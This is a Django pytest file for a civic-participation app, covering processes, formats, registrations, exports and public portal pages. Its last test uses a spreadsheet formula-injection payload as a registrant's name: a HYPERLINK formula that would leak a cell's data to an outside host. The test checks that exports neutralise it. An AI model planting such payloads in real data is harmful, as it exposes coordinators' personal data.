"""Processes and formats: services, back-office pages, public pages and their query counts."""

import datetime as dt

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from teilhabe.core.errors import ConflictError, ServiceError
from teilhabe.participation.models import ParticipationFormat, Registration
from teilhabe.participation.services import processes
from teilhabe.participation.services import registrations as reg_service

from .test_processes_support import make_event, make_process, registration_data

pytestmark = pytest.mark.django_db


def portal_url(name, process, **kwargs):
    plan = process.plan
    return reverse(
        f"portal:{name}",
        kwargs={"org_slug": plan.organization.slug, "plan_slug": plan.slug, **kwargs},
    )


# Services ----------------------------------------------------------------------------------------


def test_slug_unique_and_reserved(processes_setup):
    with pytest.raises(ServiceError, match="schon"):
        make_process(processes_setup["plan"])
    with pytest.raises(ServiceError, match="reserviert"):
        make_process(processes_setup["plan"], slug="meine-daten")


def test_process_edit_is_versioned(processes_setup):
    from django.db import transaction

    process = processes_setup["process"]
    with transaction.atomic():
        processes.process_update(process=process, version=1, title="Neu", by=None)
    with pytest.raises(ConflictError), transaction.atomic():
        processes.process_update(process=process, version=1, title="Alt", by=None)
    process.refresh_from_db()
    assert (process.title, process.version) == ("Neu", 2)
    assert process.history.count() == 2


def test_format_rules(processes_setup):
    process = processes_setup["process"]
    with pytest.raises(ServiceError, match="Beginn und Ende"):
        processes.format_create(process=process, kind="online_phase", title="x", by=None)
    with pytest.raises(ServiceError, match="Fachtag oder Workshop"):
        processes.format_create(
            process=process,
            kind="working_group",
            title="x",
            parent=processes_setup["group"],
            by=None,
        )
    with pytest.raises(ServiceError, match="Plätze"):
        processes.format_create(
            process=process, kind="project_group", title="x", capacity=3, by=None
        )
    with pytest.raises(ServiceError, match="Mitglieder"):
        processes.member_add(group=processes_setup["event"], name="x", by=None)


def test_format_with_registrations_is_not_deleted(processes_setup):
    reg_service.registration_create(event=processes_setup["event"], name="A", email="a@example.org")
    with pytest.raises(ServiceError):
        processes.format_delete(fmt=processes_setup["event"], by=None)
    processes.format_delete(fmt=processes_setup["ag"], by=None)
    assert not ParticipationFormat.objects.filter(pk=processes_setup["ag"].pk).exists()


# Back office -------------------------------------------------------------------------------------


def test_coordinator_creates_process_and_formats(client, processes_setup):
    client.force_login(processes_setup["coordinator"])
    plan = processes_setup["plan"]
    response = client.post(
        reverse("participation:process_create", args=[plan.slug]),
        {"title": "Beteiligung 2025", "slug": "b-2025", "status": "preparation"},
    )
    process = plan.processes.get(slug="b-2025")
    assert response.url == reverse("participation:process_detail", args=[process.pk])
    response = client.post(
        reverse("participation:format_create", args=[process.pk, "workshop"]),
        {
            "title": "Workshop Wohnen",
            "starts_at": "2030-05-04T10:00",
            "ends_at": "2030-05-04T16:00",
            "capacity": "20",
            "registration_open": "on",
            "position": "0",
        },
    )
    assert response.status_code == 302
    workshop = process.formats.get()
    assert workshop.capacity == 20 and workshop.registration_open
    # A bad period keeps what was typed and says what is wrong.
    response = client.post(
        reverse("participation:format_create", args=[process.pk, "online_phase"]),
        {"title": "Online", "starts_at": "2030-05-04T10:00", "ends_at": "2030-05-01T10:00"},
    )
    assert response.status_code == 200
    assert "Das Ende liegt vor dem Beginn." in response.content.decode()
    assert 'value="Online"' in response.content.decode()


def test_edit_conflict_keeps_input(client, processes_setup):
    client.force_login(processes_setup["coordinator"])
    event = processes_setup["event"]
    url = reverse("participation:format_edit", args=[event.pk])
    data = {
        "title": "Mein Titel",
        "starts_at": "2030-05-04T10:00",
        "capacity": "5",
        "position": "0",
        "version": "1",
    }
    assert client.post(url, data).status_code == 302
    data["title"] = "Späterer Titel"
    response = client.post(url, data)
    assert response.status_code == 200
    assert "inzwischen von einer anderen Person geändert" in response.content.decode()
    assert "Späterer Titel" in response.content.decode()


def test_process_page_shows_formats_and_panels(client, processes_setup):
    client.force_login(processes_setup["people"]["reader"])
    response = client.get(
        reverse("participation:process_detail", args=[processes_setup["process"].pk])
    )
    text = response.content.decode()
    assert response.status_code == 200
    assert "Fachtag Integration" in text and "AG 1: Bildung" in text and "Online-Phase" in text
    assert "Prozess bearbeiten" not in text


def test_member_names_only_for_coordinators(client, processes_setup):
    url = reverse("participation:format_detail", args=[processes_setup["group"].pk])
    client.force_login(processes_setup["people"]["reader"])
    text = client.get(url).content.decode()
    assert "GEHEIMER NAME" not in text and "Türkischer Elternverein" in text
    client.force_login(processes_setup["coordinator"])
    assert "GEHEIMER NAME" in client.get(url).content.decode()


def test_registration_list_and_export(client, processes_setup):
    reg_service.registration_create(
        event=processes_setup["event"],
        name="Ayşe",
        email="ayse@example.org",
        accessibility_needs="Rampe",
        language_help="Türkisch",
    )
    client.force_login(processes_setup["coordinator"])
    text = client.get(
        reverse("participation:registration_list", args=[processes_setup["event"].pk])
    ).content.decode()
    assert "Rampe" in text and "Türkisch" in text and "personenbezogene Daten" in text
    csv = client.get(
        reverse("participation:registration_export", args=[processes_setup["event"].pk, "csv"])
    )
    assert csv.status_code == 200
    content = csv.content.decode("utf-8-sig")
    assert "ayse@example.org" in content and "personenbezogene Daten" in content
    xlsx = client.get(
        reverse("participation:registration_export", args=[processes_setup["event"].pk, "xlsx"])
    )
    assert xlsx.content[:2] == b"PK"
    assert (
        client.get(
            reverse("participation:registration_export", args=[processes_setup["event"].pk, "pdf"])
        ).status_code
        == 404
    )


def test_registration_list_and_export_put_places_first(client, processes_setup):
    """The coordinator reads who comes first: places, then the waiting list, then cancellations
    (not the alphabetical order of the status codes, which put cancellations on top)."""
    event = processes_setup["event"]  # one place
    first = reg_service.registration_create(event=event, name="Erste", email="1@example.org")
    reg_service.registration_create(event=event, name="Zweite", email="2@example.org")
    reg_service.registration_create(event=event, name="Dritte", email="3@example.org")
    reg_service.registration_cancel(registration=first)  # Zweite moves up, Dritte waits
    client.force_login(processes_setup["coordinator"])
    text = client.get(reverse("participation:registration_list", args=[event.pk])).content.decode()
    assert text.index("Zweite") < text.index("Dritte") < text.index("Erste")
    assert "1 angemeldet von 1 Platz · 1 auf der Warteliste · 1 abgemeldet" in text
    csv = client.get(reverse("participation:registration_export", args=[event.pk, "csv"]))
    rows = csv.content.decode("utf-8-sig").splitlines()
    assert [row.split(";")[0] for row in rows[1:4]] == ["Zweite", "Dritte", "Erste"]


def test_process_create_page_has_breadcrumbs(client, processes_setup):
    client.force_login(processes_setup["coordinator"])
    plan = processes_setup["plan"]
    text = client.get(reverse("participation:process_create", args=[plan.slug])).content.decode()
    assert 'class="breadcrumbs"' in text
    assert reverse("participation:process_list", args=[plan.slug]) in text


def test_attendance_toggle_with_htmx(client, processes_setup):
    registration = reg_service.registration_create(
        event=processes_setup["event"], name="Ayşe", email="ayse@example.org"
    )
    client.force_login(processes_setup["coordinator"])
    url = reverse("participation:registration_attendance", args=[registration.pk])
    response = client.post(url, {"attended": "ja"}, headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert f'id="anmeldung-{registration.pk}"' in response.content.decode()
    registration.refresh_from_db()
    assert registration.attended is True
    client.post(url, {"attended": "nein"})
    registration.refresh_from_db()
    assert registration.attended is False


def test_dashboard_panel_lists_processes(client, processes_setup):
    from teilhabe.plans import services as plan_services

    # The dashboard shows the panel next to the timeline.
    plan_services.milestone_create(
        plan=processes_setup["plan"], kind="decision", title="Beschluss", by=None
    )
    client.force_login(processes_setup["people"]["reader"])
    text = client.get(reverse("plans:plan_dashboard", args=[processes_setup["plan"].slug])).content
    assert (
        reverse("participation:process_detail", args=[processes_setup["process"].pk]).encode()
        in text
    )


# Portal ------------------------------------------------------------------------------------------


def test_public_process_page(client, processes_setup):
    process = processes_setup["process"]
    response = client.get(portal_url("process", process, process_slug=process.slug))
    text = response.content.decode()
    assert response.status_code == 200
    assert "Fachtag Integration" in text and "Sprache und Schule" in text
    assert "Türkischer Elternverein" in text and "Migrantenorganisation" in text
    assert "GEHEIMER NAME" not in text and "mitglied@example.org" not in text
    assert (
        portal_url(
            "event_register",
            process,
            process_slug=process.slug,
            event_id=processes_setup["event"].pk,
        )
        in text
    )
    assert 'name="csrfmiddlewaretoken"' not in text  # cacheable: no form on this page


def test_public_process_page_in_every_language(client, processes_setup):
    process = processes_setup["process"]
    path = portal_url("process", process, process_slug=process.slug)
    for prefix in ("", "/en", "/tr", "/ar", "/uk", "/de-x-ls"):
        assert client.get(prefix + path).status_code == 200, prefix


def test_no_registration_link_when_closed_or_past(client, processes_setup):
    process, event = processes_setup["process"], processes_setup["event"]
    register = portal_url("event_register", process, process_slug=process.slug, event_id=event.pk)
    ParticipationFormat.objects.filter(pk=event.pk).update(
        starts_at=timezone.now() - dt.timedelta(days=1)
    )
    text = client.get(portal_url("process", process, process_slug=process.slug)).content.decode()
    assert register not in text
    response = client.get(register)
    assert "keine Anmeldung" in response.content.decode()
    assert 'name="csrfmiddlewaretoken"' not in response.content.decode()


def test_non_public_process_is_404(client, processes_setup):
    process = processes_setup["process"]
    processes.process_update(process=process, version=None, public=False, by=None)
    assert client.get(portal_url("process", process, process_slug=process.slug)).status_code == 404
    assert (
        client.get(
            portal_url(
                "event_register",
                process,
                process_slug=process.slug,
                event_id=processes_setup["event"].pk,
            )
        ).status_code
        == 404
    )
    assert "Gemeinsam" not in client.get(portal_url("process_list", process)).content.decode()


def test_public_plan_page_lists_processes(client, processes_setup):
    plan = processes_setup["plan"]
    text = client.get(
        reverse("portal:plan", kwargs={"org_slug": plan.organization.slug, "plan_slug": plan.slug})
    ).content.decode()
    assert portal_url("process", processes_setup["process"], process_slug="beteiligung") in text


def test_register_on_the_portal(client, processes_setup, django_capture_on_commit_callbacks):
    process, event = processes_setup["process"], processes_setup["event"]
    url = portal_url("event_register", process, process_slug=process.slug, event_id=event.pk)
    form = client.get("/tr" + url)
    assert 'name="csrfmiddlewaretoken"' in form.content.decode()
    # Missing name: a 400 that keeps what was typed.
    response = client.post(
        "/tr" + url, registration_data(email="ayse@example.org", language_help="Türkçe")
    )
    assert response.status_code == 400
    assert 'value="ayse@example.org"' in response.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/tr" + url,
            registration_data(name="Ayşe", email="ayse@example.org", language_help="Türkçe"),
        )
    registration = Registration.objects.get(email="ayse@example.org")
    assert registration.language == "tr" and registration.status == "confirmed"
    assert response.status_code == 302 and registration.token in response.url
    assert response.url.startswith("/tr/")
    assert len(mail.outbox) == 1 and "/tr/" in mail.outbox[0].body
    # The only place is taken: the next person goes onto the waiting list.
    client.post(url, registration_data(name="Olena", email="olena@example.org"))
    assert Registration.objects.get(email="olena@example.org").status == "waiting"
    # The same address again: a clear message, nothing lost.
    response = client.post(url, registration_data(name="Ayşe", email="ayse@example.org"))
    assert response.status_code == 400
    assert "schon jemand angemeldet" in response.content.decode()


def _count(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_cancel_page_speaks_to_the_waiting_list(client, processes_setup):
    event = processes_setup["event"]  # one place
    reg_service.registration_create(event=event, name="Erste", email="1@example.org")
    waiting = reg_service.registration_create(event=event, name="Zweite", email="2@example.org")
    text = client.get(
        portal_url("event_cancel", processes_setup["process"], token=waiting.token)
    ).content.decode()
    assert "von der Warteliste streichen" in text
    assert "Ihr Platz geht" not in text


def test_process_pages_have_constant_queries(
    client, processes_setup, django_assert_max_num_queries
):
    process = processes_setup["process"]
    public = portal_url("process", process, process_slug=process.slug)
    client.force_login(processes_setup["coordinator"])
    internal = reverse("participation:process_detail", args=[process.pk])
    before = (_count(client, internal), _count(client, public))
    for n in range(5):
        event = make_event(process, title=f"Workshop {n}")
        for m in range(3):
            processes.format_create(
                process=process,
                kind="working_group",
                number=10 * n + m,
                title=f"AG {n}.{m}",
                parent=event,
                by=None,
            )
        group = processes.format_create(
            process=process, kind="steering_group", title=f"Gruppe {n}", by=None
        )
        for m in range(4):
            processes.member_add(group=group, name=f"M {m}", affiliation=f"Verein {m}", by=None)
        reg_service.registration_create(event=event, name="X", email=f"x{n}@example.org")
    after = (_count(client, internal), _count(client, public))
    assert after == before
    with django_assert_max_num_queries(25):
        client.get(public)


def test_registration_exports_keep_formulas_as_text(client, processes_setup):
    """A name like =HYPERLINK(…) must not become a live formula in the coordinator's Excel."""
    import io

    from openpyxl import load_workbook

    attack = '=HYPERLINK("http://example.org/?"&B2;"Hier klicken")'
    reg_service.registration_create(
        event=processes_setup["event"], name=attack, email="x@example.org", affiliation="+1+1"
    )
    client.force_login(processes_setup["coordinator"])
    url = reverse("participation:registration_export", args=[processes_setup["event"].pk, "csv"])
    content = client.get(url).content.decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in content and ";'+1+1;" in content
    url = reverse("participation:registration_export", args=[processes_setup["event"].pk, "xlsx"])
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    name, _email, affiliation = (cell for cell in sheet[2][:3])
    assert (name.value, name.data_type) == (attack, "s")
    assert (affiliation.value, affiliation.data_type) == ("+1+1", "s")
